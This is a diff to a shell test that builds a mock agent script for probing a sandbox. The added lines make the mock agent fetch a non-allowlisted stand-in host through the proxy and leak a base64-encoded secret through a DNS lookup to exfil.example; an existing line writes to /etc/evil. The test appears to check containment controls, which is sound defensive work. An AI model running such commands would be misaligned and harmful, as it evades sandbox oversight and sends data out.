@@ -39,6 +39,10 @@ echo "- wrote tests" >> /workspace/NOTES.md
 /bin/sha256sum /workspace/src/main.py
 /bin/uname -a
 echo "agent: trying to write outside the workspace"; touch /etc/evil 2>&1 || true
+echo "agent: fetching a page not on the allowlist (through the egress proxy in \$http_proxy)"
+wget -q -O- http://pastebin.example/upload 2>&1 || true
+echo "agent: trying to leak a secret through DNS"
+nslookup c2VjcmV0.exfil.example 2>&1 | grep -i -m1 refused || true
 echo "agent: done"
 AGENT
 chmod +x "$ws/agent.sh"
